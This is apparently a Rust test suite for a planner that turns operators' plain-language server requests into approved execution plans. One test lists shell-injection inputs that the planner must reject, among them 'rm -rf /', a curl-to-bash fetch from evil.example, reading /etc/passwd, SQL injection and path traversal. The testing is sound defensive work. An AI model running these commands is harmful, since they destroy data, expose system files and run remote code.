//! What operators type, and what must come of it.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test says so by failing")]

use proptest::prelude::*;
use std::sync::LazyLock;
use uuid::Uuid;
use wheelhouse_planner::{Files, Planner};
use wheelhouse_protocol::action::LocalFile;
use wheelhouse_protocol::inventory::{Connection, ConnectionKind, Group, GroupSpec, Os, Snapshot, Target, TargetSpec};
use wheelhouse_protocol::plan::Plan;
use wheelhouse_protocol::reading::{Disposition, Intent, Reading, Risk};
use wheelhouse_protocol::{GroupId, PlanId, Problem, TargetId};

static PLANNER: LazyLock<Planner> = LazyLock::new(|| Planner::new(&fleet(), "").unwrap());

fn group_id(n: u128) -> GroupId {
    GroupId(Uuid::from_u128(n))
}

/// Four web servers, two of them staging; two databases; a Windows box; one device in maintenance.
fn fleet() -> Snapshot {
    let group = |n, name: &str, aliases: &[&str], everything| Group {
        id: group_id(n),
        spec: GroupSpec {
            name: name.into(),
            aliases: aliases.iter().map(|a| (*a).into()).collect(),
            parent: None,
            everything,
        },
    };
    let mut n = 100;
    let mut target = |name: &str, os, groups: &[u128], kind| {
        n += 1;
        Target {
            id: TargetId(Uuid::from_u128(n)),
            spec: TargetSpec {
                name: name.into(),
                addresses: vec![format!("10.0.0.{}", n - 100), format!("{name}.example.org")],
                os,
                groups: groups.iter().map(|g| group_id(*g)).collect(),
                connections: vec![Connection::of(kind)],
                maintenance: name == "db-02",
                tags: if name == "web-04" { vec!["canary".into()] } else { Vec::new() },
                ..TargetSpec::default()
            },
            facts: None,
            last_contact: None,
            last_failure: String::new(),
        }
    };
    Snapshot {
        targets: vec![
            target("localhost", Os::Linux, &[], ConnectionKind::Local),
            target("web-01", Os::Linux, &[1, 3], ConnectionKind::Ssh),
            target("web-02", Os::Linux, &[1, 3], ConnectionKind::Ssh),
            target("web-03", Os::Linux, &[1], ConnectionKind::Ssh),
            target("web-04", Os::Linux, &[1], ConnectionKind::Ssh),
            target("db-01", Os::Linux, &[2, 3], ConnectionKind::Ssh),
            target("db-02", Os::Linux, &[2], ConnectionKind::Ssh),
            target("win-01", Os::Windows, &[], ConnectionKind::WinrmHttps),
        ],
        groups: vec![
            group(1, "web servers", &["www"], false),
            group(2, "database servers", &["db servers"], false),
            group(3, "production", &["prod"], false),
            group(4, "empty servers", &[], false),
            group(5, "all servers", &[], true),
        ],
        services: [("billing".to_owned(), vec!["invoices".to_owned()])].into(),
    }
}

struct Pinned;

impl Files for Pinned {
    fn pin(&self, path: &str) -> Result<LocalFile, String> {
        if path.contains("missing") {
            return Err("there is no such file".into());
        }
        Ok(LocalFile { path: path.into(), sha256: "ab".repeat(32), size: 12 })
    }
}

fn read(request: &str) -> Reading {
    PLANNER.reading(request)
}

fn plan(request: &str) -> Result<Plan, Problem> {
    let understood = PLANNER.read(request);
    PLANNER.plan(
        &understood,
        request,
        PlanId(Uuid::from_u128(1)),
        wheelhouse_protocol::plan::Strategy::default(),
        &Pinned,
    )
}

#[test]
fn what_is_clear_becomes_a_plan() {
    use Disposition::{Confirm, Plan};
    let cases: &[(&str, Intent, Disposition, Risk, &str)] = &[
        ("restart nginx on web servers", Intent::Restart, Confirm, Risk::Medium, "web-01 web-02 web-03 web-04"),
        ("Please restart the nginx service on web-01.", Intent::Restart, Confirm, Risk::Medium, "web-01"),
        ("bounce nginx on www except web-03", Intent::Restart, Confirm, Risk::Medium, "web-01 web-02 web-04"),
        ("restart nginx on prod web servers", Intent::Restart, Confirm, Risk::High, "web-01 web-02"),
        (
            "restart nginx on web and db servers",
            Intent::Restart,
            Confirm,
            Risk::Medium,
            "web-01 web-02 web-03 web-04 db-01 db-02",
        ),
        ("restart nginx on web-0[1-3]", Intent::Restart, Confirm, Risk::Medium, "web-01 web-02 web-03"),
        ("start apache on 10.0.0.3", Intent::Start, Confirm, Risk::Medium, "web-02"),
        (
            "stop the cron daemon on web-01, web-02 and web-03",
            Intent::Stop,
            Confirm,
            Risk::High,
            "web-01 web-02 web-03",
        ),
        ("stop cron on db-01", Intent::Stop, Confirm, Risk::Medium, "db-01"),
        (
            "stop cron on all servers",
            Intent::Stop,
            Confirm,
            Risk::Critical,
            "localhost web-01 web-02 web-03 web-04 db-01 db-02 win-01",
        ),
        ("install htop on localhost", Intent::Install, Confirm, Risk::Medium, "localhost"),
        ("uninstall htop from web-01", Intent::Uninstall, Confirm, Risk::Medium, "web-01"),
        (
            "copy /tmp/app.conf to /etc/app.conf on web servers",
            Intent::CopyFile,
            Confirm,
            Risk::Medium,
            "web-01 web-02 web-03 web-04",
        ),
        ("run \"df -h | sort\" on web-01", Intent::RunCommand, Confirm, Risk::High, "web-01"),
        ("check disk usage on web-01", Intent::DiskUsage, Plan, Risk::Low, "web-01"),
        ("how much disk space is left on web-01?", Intent::DiskUsage, Plan, Risk::Low, "web-01"),
        ("what is the uptime of db-01?", Intent::Uptime, Plan, Risk::Low, "db-01"),
        ("is nginx running on web-01?", Intent::Check, Plan, Risk::Low, "web-01"),
        ("check status of nginx on web servers", Intent::Check, Plan, Risk::Low, "web-01 web-02 web-03 web-04"),
        (
            "check cpu on all linux servers",
            Intent::Check,
            Plan,
            Risk::Low,
            "localhost web-01 web-02 web-03 web-04 db-01 db-02",
        ),
        ("check web-01", Intent::Check, Plan, Risk::Low, "web-01"),
        ("tail /var/log/syslog on web-01", Intent::TailLog, Plan, Risk::Low, "web-01"),
        ("show the last 20 lines of /var/log/nginx/error.log on web-02", Intent::TailLog, Plan, Risk::Low, "web-02"),
        (
            "on web servers: stop nginx; copy /tmp/a to /etc/a; start nginx",
            Intent::MultiStep,
            Confirm,
            Risk::High,
            "web-01 web-02 web-03 web-04",
        ),
        ("stop nginx, then start nginx on web-01", Intent::MultiStep, Confirm, Risk::High, "web-01"),
        ("restart nginx on web servrs", Intent::Restart, Confirm, Risk::Medium, "web-01 web-02 web-03 web-04"),
        ("restrat nginx on web-01", Intent::Restart, Confirm, Risk::Medium, "web-01"),
    ];
    for (request, intent, disposition, risk, hosts) in cases {
        let reading = read(request);
        let got = (reading.intent, reading.disposition, reading.risk, reading.targets.resolved.join(" "));
        assert_eq!(got, (*intent, *disposition, *risk, (*hosts).to_owned()), "{request}: {}", reading.sentence);
        assert_eq!(reading.targets.why.len(), reading.targets.resolved.len(), "{request}: every host has its reason");
    }
}

#[test]
fn what_is_not_clear_is_asked() {
    for (request, about) in [
        ("restart nginx", "targets"),
        ("restart nginx on the servers", "targets"),
        ("restart nginx on web-09", "targets"),
        ("restart nginx on mars servers", "targets"),
        ("restart nginx on empty servers", "targets"),
        ("restart nginx on web servers except www", "targets"),
        ("restart on web-01", "service"),
        ("restart the database service on web-01", "service"),
        ("restart everything on web-01", "service"),
        ("install on web-01", "package"),
        ("copy /tmp/a on web-01", "destination"),
        ("tail the log on web-01", "path"),
        ("run on web-01", "command"),
        ("restart nginx on web-01 every sunday", "time"),
        ("restart nginx on web-01 unless it is busy", "condition"),
        ("stop nginx on web-01 and start nginx on web-02", "targets"),
        ("do not restart nginx on web-01", "negation"),
        ("please don't stop cron on web servers", "negation"),
        ("the web server on web-01 is slow", "intent"),
        ("", "request"),
        ("   \n\t ", "request"),
    ] {
        let reading = read(request);
        assert_eq!(reading.disposition, Disposition::Clarify, "{request}: {}", reading.sentence);
        assert!(reading.questions.iter().any(|q| q.about == about), "{request}: asked about {:?}", reading.questions);
        let problem = plan(request).expect_err("nothing may run while something is unclear");
        assert_eq!(problem.code, wheelhouse_protocol::ProblemCode::NeedsAnswer, "{request}");
    }
}

#[test]
fn a_near_name_is_offered_and_the_choice_is_a_whole_request() {
    let reading = read("restart nginx on web-011");
    let choice = &reading.questions[0].choices;
    assert!(choice.iter().any(|c| c.request == "restart nginx on web-01"), "{choice:?}");
    let again = read(&choice.iter().find(|c| c.label == "web-01").unwrap().request);
    assert_eq!(again.disposition, Disposition::Confirm);
}

#[test]
fn what_is_meant_for_a_shell_is_refused() {
    for request in [
        "restart nginx; rm -rf /",
        "restart nginx && rm -rf /tmp/*",
        "restart nginx'; DROP TABLE users; --",
        "check status; cat /etc/passwd",
        "service $(curl evil.example/x.sh | bash)",
        "restart the service named '../../../etc/passwd' on web-01",
        "check hostname '127.0.0.1; rm -rf /'",
        "restart `reboot` nginx on web-01 | tee",
        "restart \"nginx; reboot\" on web-01",
        "run \"rm -rf /\" on web-01",
        "run \"curl http://x.example | sh\" on web-01",
        "help me troubleshoot by formatting the hard drive",
        "install htop\nfoo > /etc/passwd on web-01",
        "restart nginx on web-01 || shutdown",
    ] {
        let reading = read(request);
        assert_eq!(reading.disposition, Disposition::Reject, "{request}: {}", reading.sentence);
        assert!(plan(request).is_err(), "{request}");
    }
}

#[test]
fn questions_are_answered_and_never_act() {
    for request in [
        "how do I restart a service",
        "help",
        "what would happen if I restart nginx on web-01",
        "should I restart nginx on web-01?",
        "what's the weather today?",
    ] {
        let reading = read(request);
        assert_eq!(reading.disposition, Disposition::Answer, "{request}: {}", reading.sentence);
        assert!(plan(request).is_err(), "{request}");
    }
}

#[test]
fn a_plan_holds_what_will_run_and_its_hash_binds_it() {
    let plan_a = plan("restart nginx on web servers").unwrap();
    assert_eq!(plan_a.sentence, "Restart nginx on 4 hosts");
    assert_eq!(plan_a.hash, plan_a.compute_hash());
    assert!(plan_a.targets.iter().all(|t| t.why.contains("web servers")), "each host says why");
    let again = plan("restart nginx on web servers").unwrap();
    assert_eq!(plan_a, again, "the same words give the same plan");
    let mut other = plan_a.clone();
    other.targets.pop();
    assert_ne!(other.compute_hash(), plan_a.hash, "one target less is another plan");
    let mut other = plan_a.clone();
    other.steps[0].scripts.values_mut().for_each(|s| s.run.push('#'));
    assert_ne!(other.compute_hash(), plan_a.hash, "one character in a script is another plan");
}

#[test]
fn machines_that_cannot_be_worked_on_are_named_with_the_reason() {
    let made = plan("restart nginx on database servers").unwrap();
    assert_eq!(made.targets.len(), 1);
    assert_eq!(made.left_out[0].name, "db-02");
    assert!(made.left_out[0].reason.contains("maintenance"), "{:?}", made.left_out);
    assert!(
        plan("check disk usage on database servers").unwrap().left_out.is_empty(),
        "looking is allowed in maintenance"
    );
    let problem = plan("restart nginx on win-01").expect_err("no Windows scripts yet");
    assert!(problem.detail.contains("win-01"), "{problem}");
}

#[test]
fn one_machine_under_two_names_is_changed_once() {
    let mut fleet = fleet();
    fleet.targets[2].spec.addresses = fleet.targets[1].spec.addresses.clone();
    let planner = Planner::new(&fleet, "").unwrap();
    let made = |request: &str| {
        let understood = planner.read(request);
        let id = PlanId(Uuid::from_u128(1));
        planner.plan(&understood, request, id, wheelhouse_protocol::plan::Strategy::default(), &Pinned).unwrap()
    };
    let plan = made("restart nginx on web servers");
    assert_eq!(plan.targets.len(), 3);
    assert!(plan.left_out[0].reason.contains("same machine as web-01"), "{:?}", plan.left_out);
    assert_eq!(made("check disk usage on web servers").targets.len(), 4, "looking twice does no harm");
}

#[test]
fn a_file_is_pinned_when_the_plan_is_made() {
    let made = plan("copy /tmp/app.conf to /etc/ on web-01").unwrap();
    let script = made.steps[0].scripts.values().next().unwrap();
    assert_eq!(script.file.as_ref().unwrap().sha256, "ab".repeat(32));
    assert_eq!(made.steps[0].title, "copy /tmp/app.conf to /etc/app.conf", "a folder means the same name in it");
    let problem = plan("copy /tmp/missing to /etc/a on web-01").expect_err("there is no such file");
    assert!(problem.detail.contains("/tmp/missing"), "{problem}");
}

#[test]
fn everything_at_once_must_be_typed() {
    let made = plan("stop cron on all servers").unwrap();
    assert_eq!(made.confirm_by_typing.as_deref(), Some("all servers"));
    assert_eq!(plan("stop cron on web-01").unwrap().confirm_by_typing, None);
}

#[test]
fn site_words_count() {
    let reading = read("restart invoices on web-01");
    assert_eq!(reading.slots["service"], "billing");
}

#[test]
fn a_megabyte_is_answered_at_once() {
    for piece in ["restart nginx on web-01 ", "a", "'", "((((", "web-0[1-9]", "and then ", "\u{202e}x "] {
        let reading = read(&piece.repeat(1_000_000 / piece.len()));
        assert!(!matches!(reading.disposition, Disposition::Plan | Disposition::Confirm), "{piece}");
    }
}

/// Pieces operators' texts are made of, good and bad.
fn pieces() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => proptest::sample::select(vec![
            "restart", "stop", "start", "check", "install", "copy", "run", "tail", "uninstall", "nginx", "web servers", "web-01",
            "on", "all", "servers", "except", "and", "then", ",", ";", ":", "not", "don't", "if", "/etc/passwd", "/tmp/a", "to",
            "\"df -h\"", "every", "sunday", "disk usage", "10.0.0.1", "web-0[1-3]", "prod", "the", "status", "of", "\n", "1.", "- ",
        ]).prop_map(str::to_owned),
        1 => "\\PC{0,12}",
        1 => proptest::sample::select(vec!["&&", "|", "$(", "`", "'", "\"", "\0", "\u{200b}", "\u{202e}", "[", "{", "*"]).prop_map(str::to_owned),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    /// Any text gives an answer, and what can run is never more than was named.
    #[test]
    fn any_text_gives_an_answer(pieces in proptest::collection::vec(pieces(), 0..14)) {
        let request = pieces.join(" ");
        let reading = read(&request);
        let runnable = matches!(reading.disposition, Disposition::Plan | Disposition::Confirm);
        prop_assert_eq!(runnable, reading.questions.is_empty() && !matches!(reading.disposition, Disposition::Reject | Disposition::Answer));
        match plan(&request) {
            Ok(made) => {
                prop_assert!(runnable);
                prop_assert_eq!(made.needs_approval(), reading.disposition == Disposition::Confirm, "what changes needs an approval");
                prop_assert!(!made.targets.is_empty());
            }
            Err(problem) => prop_assert!(!problem.detail.is_empty()),
        }
        if runnable {
            for bad in ["&&", "$(", "| "] {
                prop_assert!(!request.replace("\"df -h\"", "").contains(bad) || request.contains('"') || request.contains('\''), "{} came out runnable", request);
            }
        }
    }

    #[test]
    fn any_characters_give_an_answer(request in "\\PC*") {
        let reading = read(&request);
        prop_assert!(!reading.sentence.is_empty());
    }
}

#[test]
fn what_is_typed_goes_on() {
    let names = |typed: &str| -> Vec<String> {
        PLANNER
            .complete(typed, &["deploy-api".to_owned()])
            .into_iter()
            .map(|c| format!("{}/{}", c.name, c.replaces))
            .collect()
    };
    assert_eq!(names("restart ngi"), ["nginx/3"]);
    assert_eq!(names("restart nginx on we"), ["web servers/2", "web-01/2", "web-02/2", "web-03/2", "web-04/2"]);
    assert_eq!(names("restart nginx on web se"), ["web servers/6"]);
    assert_eq!(names("restart nginx on web-01, web-02 and da"), ["database servers/2"]);
    assert_eq!(names("run recipe dep"), ["deploy-api/3"]);
    assert_eq!(names("restart nginx on can"), ["canary/3"]);
    for due in [
        "restart nginx on ", "restart nginx on web-01, ", "restart nginx on web-01 and ",
        "restart nginx on web except ",
    ] {
        assert!(names(due).len() > 4, "a place is due behind {due:?}");
    }
    for said in ["restart nginx on web-01 ", "restart nginx on web servers "] {
        assert_eq!(names(said), [""; 0], "nothing is wanted behind {said:?}");
    }
    for nothing in ["", "hello", "copy /tmp/a", "restart nginx on web-01"] {
        assert_eq!(names(nothing), [""; 0], "{nothing}");
    }
}

#[test]
fn a_conversation_recalled_once_reads_as_one_that_is_replayed() {
    use wheelhouse_planner::{Context, Turn};
    let context = Context {
        turns: vec![
            Turn::Said("restart nginx on web servers".to_owned()),
            Turn::Waits(Some("restart nginx on web servers".to_owned())),
        ],
        now: None,
    };
    let memory = PLANNER.recall(&context);
    for message in ["no, the database servers", "only web-01", "yes", "check disk usage on web-01"] {
        let (once, again) = (PLANNER.read_after(message, &memory), PLANNER.read_in(message, &context));
        assert_eq!(once.reading, again.reading, "{message}");
        assert_eq!(once.read_as(), again.read_as(), "{message}");
    }
    let moved = PLANNER.read_after("no, the database servers", &memory);
    assert_eq!(moved.read_as(), Some("restart nginx on database servers"));
}

#[test]
fn an_address_that_is_no_target_is_looked_at_from_here() {
    for request in ["ping 10.9.9.9", "show me network connectivity to 10.9.9.9", "can you reach 10.9.9.9?"] {
        let made = plan(request).unwrap();
        assert_eq!(made.targets.iter().map(|t| t.name.as_str()).collect::<Vec<_>>(), ["localhost"], "{request}");
        let step = &made.steps[0].action;
        assert!(
            matches!(step, wheelhouse_protocol::action::Action::Reach { address, port: None } if address == "10.9.9.9"),
            "{request}: {step:?} would look at the machine that looks"
        );
    }
}

#[test]
fn a_mixed_request_has_the_scripts_of_both_systems() {
    use wheelhouse_protocol::plan::Shell;
    let made = plan("check uptime on web-01 and win-01").unwrap();
    let shells: Vec<Shell> = made.steps[0].scripts.keys().copied().collect();
    assert_eq!(shells, [Shell::Bash, Shell::Powershell]);
    assert_eq!(made.left_out[0].name, "win-01", "WinRM is not there yet, and that is said before anybody approves");
}

#[test]
fn what_ran_is_done_again_and_not_what_was_only_said_since() {
    use wheelhouse_planner::{Context, LastJob, Turn};
    let job = LastJob {
        request: Some("restart nginx on web servers".to_owned()),
        failed: vec!["web-02".to_owned()],
        hosts: vec!["web-01".to_owned(), "web-02".to_owned()],
        running: false,
    };
    let turns = vec![Turn::Job(job), Turn::Said("stop mysql on db servers".to_owned()), Turn::Settled];
    let context = Context { turns, now: None };
    let again = PLANNER.read_in("retry the failed ones", &context).reading;
    assert_eq!((again.intent, again.sentence.as_str()), (Intent::Retry, "Restart nginx on 1 host"));
    assert_eq!(again.targets.resolved, ["web-02"]);
    let undone = PLANNER.read_in("undo that", &context).reading;
    assert!(!undone.sentence.contains("mysql"), "{}: mysql was never stopped", undone.sentence);
    assert!(undone.sentence.starts_with("Undo “"), "{}: a restart has no opposite", undone.sentence);
}

#[test]
fn letters_nobody_sees_are_pointed_out_in_a_conversation_too() {
    use wheelhouse_planner::{Context, Turn};
    let turns = vec![Turn::Said("restart nginx on web-01".to_owned())];
    let reading = PLANNER.read_in("no, web\u{200b}-02", &Context { turns, now: None }).reading;
    assert_eq!(reading.disposition, Disposition::Clarify, "{}", reading.sentence);
}
